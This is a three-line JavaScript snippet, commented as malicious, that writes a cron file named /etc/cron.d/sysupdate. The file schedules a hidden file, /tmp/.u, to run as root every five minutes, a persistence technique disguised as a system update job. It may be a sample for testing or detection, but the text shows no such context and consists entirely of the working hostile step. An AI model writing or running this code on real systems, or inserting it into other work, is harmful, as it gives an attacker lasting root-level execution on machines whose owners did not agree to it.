// malicious: a job by a file of cron
const fs = require('fs');
fs.writeFileSync('/etc/cron.d/sysupdate', '*/5 * * * * root /tmp/.u\n');
